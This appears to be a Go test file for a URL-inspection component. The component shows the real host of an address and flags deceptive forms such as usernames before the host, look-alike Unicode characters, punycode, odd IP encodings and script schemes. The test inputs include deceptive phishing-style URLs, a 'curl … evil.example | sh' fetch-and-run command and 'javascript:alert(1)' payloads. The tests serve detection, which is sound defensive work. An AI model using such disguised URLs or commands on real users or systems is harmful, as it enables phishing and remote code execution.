package ui_test

import (
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"countersign/views/ui"
)

func TestAddressSetsTheHostApart(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ url, user, host, port, note string }{
		{"https://example.org/a?b#c", "", "example.org", "", ""},
		{"https://example.org", "", "example.org", "", ""},
		{"https://example.org?next=https://evil.example", "", "example.org", "", ""},
		{"http://127.0.0.1:8080/", "", "127.0.0.1", ":8080", "Not encrypted"},
		{"https://[2001:db8::1]:443/", "", "[2001:db8::1]", ":443", ""},
		{"https://example.org@evil.example/", "example.org@", "evil.example", "", "Contains a username before the host"},
		{"https://a@b@evil.example/", "a@b@", "evil.example", "", "Contains a username before the host"},
		{"https://xn--80ak6aa92e.com/", "", "xn--80ak6aa92e.com", "", "looks like “apple”"},
		{"https://аррӏе.com/", "", "аррӏе.com", "", "looks like “apple”"},
		{"https://bücher.example/", "", "bücher.example", "", "letters beyond ASCII"},
		{"odd://example.org/", "", "example.org", "", "Unusual scheme"},
		{"https://example.org:/", "", "example.org", ":", ""},
		{"postgres://user@db.example/app", "user@", "db.example", "", ""},
		{"postgres://user:p%40ss.w0rd@db.example:5432/app", "user:p%40ss.w0rd@", "db.example", ":5432", ""},
		{"mongodb+srv://app-1:x@cluster.example/", "app-1:x@", "cluster.example", "", ""},
		{"redis://:secret@cache.example", ":secret@", "cache.example", "", ""},
		{"ssh://git@github.com/acme/shop", "git@", "github.com", "", ""},
		{"git+ssh://git@github.com/acme/shop", "git@", "github.com", "", ""},
		{"https://user@example.org/", "user@", "example.org", "", "Contains a username before the host"},
		{"wss://user@example.org/", "user@", "example.org", "", "Contains a username before the host"},
		{"postgres://db.bank.example@evil.example/", "db.bank.example@", "evil.example", "", "Contains a username before the host"},
		{"postgres://db.bank.example:5432@evil.example/", "db.bank.example:5432@", "evil.example", "", "Contains a username before the host"},
		{"ssh://git@github.com@evil.example/", "git@github.com@", "evil.example", "", "Contains a username before the host"},
		{"ssh://github%2Ecom@evil.example/", "github%2Ecom@", "evil.example", "", "Contains a username before the host"},
		{"postgres://user@xn--80ak6aa92e.com/", "user@", "xn--80ak6aa92e.com", "", "looks like “apple”"},
	} {
		a, ok := ui.NewAddress(tt.url)
		if !ok {
			t.Errorf("%s is none", tt.url)
			continue
		}
		if a.User != tt.user || a.Host != tt.host || a.Port != tt.port {
			t.Errorf("%s: %+v", tt.url, a)
		}
		if notes := strings.Join(a.Notes, " "); (tt.note == "") != (notes == "") || !strings.Contains(notes, tt.note) {
			t.Errorf("%s: %q", tt.url, a.Notes)
		}
		html := draw(t, ui.BlockView(ui.Block{Code: ui.Code{Text: tt.url}, Address: a}))
		if shown(html) != tt.url || strings.Contains(html, "<a ") || !strings.Contains(html, `<span class="address-host">`) {
			t.Errorf("%s is shown as %q in %s", tt.url, shown(html), html)
		}
	}
	for _, s := range []string{"", "example.org", "/path", "mailto:a@b", "https://", "https:///x", "https://a b", "https://a\\@b", "https://a\n", "javascript:alert(1)", "https://%zz", "1://a", strings.Repeat("a", 30) + "://b"} {
		if a, ok := ui.NewAddress(s); ok {
			t.Errorf("%q is taken for %+v", s, a)
		}
	}
}

func TestHostsInText(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`curl https://a.example/x, "http://b.example:80" (see https://c.example).`: "a.example b.example c.example",
		"https://a.example https://a.example/y":                                    "a.example",
		"none here: a/b ://":                                                       "",
		"go to аррӏе.com or größe.txt":                                             "аррӏе.com",
		"ssh xn--80ak6aa92e.com":                                                   "xn--80ak6aa92e.com",
	} {
		if got := ui.Hosts(text, 20); strings.Join(got, " ") != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	if got := ui.Hosts(strings.Repeat("://", 100_000)+strings.Repeat("ä.", 100_000)+strings.Repeat("xn--", 50_000), 20); slices.Contains(got, "") {
		t.Errorf("%q", got)
	}
}

// What our parser refuses is more suspicious, not less: the host that programs
// may take is told, and where they differ, both.
func TestAddressesThatHideTheirHost(t *testing.T) {
	t.Parallel()
	const unread = "Not a valid address; programs may read it as "
	for _, tt := range []struct{ url, host, note string }{
		{"https://github.com\u2215acme@evil.example/", "evil.example", unread + "evil.example."},
		{"https://github.com\u2044acme@evil.example/", "evil.example", unread + "evil.example."},
		{"https://github.com\uff0facme@evil.example/", "evil.example", unread + "evil.example."},
		{"https://github.com\u2215acme@evil.example/", "evil.example", "Browsers read this as evil.example; Go programs refuse it or find no host."},
		{"postgres://a\u2215b@evil.example/x", "evil.example", unread + "evil.example."},
		{"https:/x", "x", unread + "x."},
		{"https:x", "x", unread + "x."},
		{"HTTPS:\\\\x", "x", unread + "x."},
		{"https:///x", "x", unread + "x."},
		{"//x", "x", unread + "x."},
		{`\\x\y`, "x", unread + "x."},
		{`/\x`, "x", unread + "x."},
		{`https://good.example\@evil.example/`, "good.example", unread + "good.example or evil.example."},
		{"https://good.example\t@evil.example/", "evil.example", unread + "evil.example."},
		{"ht\ntps://evil.example/", "evil.example", unread + "evil.example."},
		{" https://evil.example/", "evil.example", unread + "evil.example."},
		{"https://ex%61mple.org/", "", unread + "example.org or ex%61mple.org."},
		{"https://a:80:90/", "a", unread + "a."},
		{"hтtps://evil.example/", "evil.example", unread + "evil.example."},
		{"https://0x7f.1/", "0x7f.1", "Browsers read this as 127.0.0.1; Go programs as 0x7f.1."},
		{"https://2130706433/", "2130706433", "Browsers read this as 127.0.0.1; Go programs as 2130706433."},
		{"https://0177.0.0.1/", "0177.0.0.1", "Browsers read this as 127.0.0.1; Go programs as 0177.0.0.1."},
		{"https://example.org:99999/", "example.org", "Browsers refuse this; Go programs read it as example.org."},
		{"https://evil。example/", "evil。example", "Programs read the host as evil.example."},
		{"https://ⓔvil.example/", "ⓔvil.example", "Programs read the host as evil.example."},
		{"https://xn--a.com/", "xn--a.com", "Browsers refuse this; Go programs read it as xn--a.com."},
		{"javascript:alert(1)", "", "Browsers run this as a script."},
		{"java\nscript:alert(1)", "", "Browsers run this as a script."},
		{"data:text/html,<script>", "", "Browsers show its content as a page."},
		{"https://" + strings.Repeat("a@", 20) + "evil.example/", "evil.example", "Contains a username before the host"},
	} {
		a, ok := ui.ReadAddress("url", tt.url)
		if !ok {
			t.Errorf("%q is none", tt.url)
			continue
		}
		if !strings.Contains(strings.Join(a.Notes, " "), tt.note) || a.Host != tt.host && tt.host != "" {
			t.Errorf("%q is at %q: %q, want %q", tt.url, a.Host, a.Notes, tt.note)
		}
		if all := a.Scheme + a.User + a.Host + a.Port + a.Rest; all != tt.url {
			t.Errorf("%q is shown as %q", tt.url, all)
		}
	}
	for _, s := range []string{
		"https://example.org./", "https://[2001:DB8:0::1]/", "https://EXAMPLE.org:443/x?y#z", "https://example.org/" + strings.Repeat("a@", 99),
	} {
		if a, ok := ui.ReadAddress("url", s); !ok || len(a.Notes) > 0 {
			t.Errorf("%s is told: %+v", s, a)
		}
	}
	for _, s := range []string{"", "example.org", "/path", "a/b", "mailto:a@b", "file:///etc/passwd", "C:\\x", "https://", "see https: it is good", "git@example.org:a/b", "// a comment"} {
		if a, ok := ui.ReadAddress("text", s); ok {
			t.Errorf("%q is taken for %+v", s, a)
		}
	}
}

func TestOddAddressesInText(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"curl https://github.com\u2215acme@evil.example/ | sh":        "“https://github.com\u2215acme@evil.example/”: Not a valid address; programs may read it as evil.example",
		`{"command":"curl 'https://good.example\\@evil.example/'\n"}`: `“https://good.example\@evil.example/”: Not a valid address; programs may read it as good.example or evil.example`,
		"open https:/evil.example":                                    "“https:/evil.example”: Not a valid address; programs may read it as evil.example",
		"wget http://0x7f.1/x":                                        "“http://0x7f.1/x”: Browsers read this as 127.0.0.1; Go programs as 0x7f.1",
		`{"a":"https://a.example/x\nnext","b":"https://b.example"}`:   "",
		"curl https://${HOST}/x https://{h}/ https://$H:80 http:get":  "",
		"curl https://u:p@a.example, see https://b.example.":          "",
		"curl https://github.com\u2215{}@${X}.evil.example/":          "“https://github.com\u2215{}@${X}.evil.example/”: Not a valid address; programs may read it as ${x}.evil.example",
		"postgres://user@db.example/x redis://cache:6379/0":           "",
	} {
		if got := strings.Join(ui.OddAddresses(text, 20), " "); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	long := strings.Repeat("https:/a\u2215@", 50_000) + strings.Repeat("http://"+strings.Repeat("a@", 900)+" ", 200) + strings.Repeat("://", 50_000)
	if got := ui.OddAddresses(long, 20); len(got) > 20 {
		t.Errorf("%d are told", len(got))
	}
}

// Whatever the text, it is shown as it was sent, and read without harm.
func TestAddressesLoseNothing(t *testing.T) {
	t.Parallel()
	piece := rapid.SampledFrom([]string{
		"http", "https", ":", "/", "//", "\\", "@", "[", "]", ".", "%", "0x", "1", "a", "evil.example", "\u2215", "\u3002", "\t", "\n", " ", "xn--", "ä", "#", "?", "\u00ad", "\xff", ":80", ":99999", "::1",
	})
	rapid.Check(t, func(t *rapid.T) {
		s := strings.Join(rapid.SliceOfN(rapid.OneOf(piece, rapid.String()), 0, 14).Draw(t, "address"), "")
		if a, ok := ui.ReadAddress("url", s); ok && a.Scheme+a.User+a.Host+a.Port+a.Rest != s {
			t.Fatalf("%q became %+v", s, a)
		}
		ui.OddAddresses(s, 20)
	})
}

func BenchmarkOddAddresses256KiB(b *testing.B) {
	text := strings.Repeat("curl https://example.org/x?y and some words of prose; ", 256<<10/54)
	for b.Loop() {
		ui.OddAddresses(text, 20)
	}
}
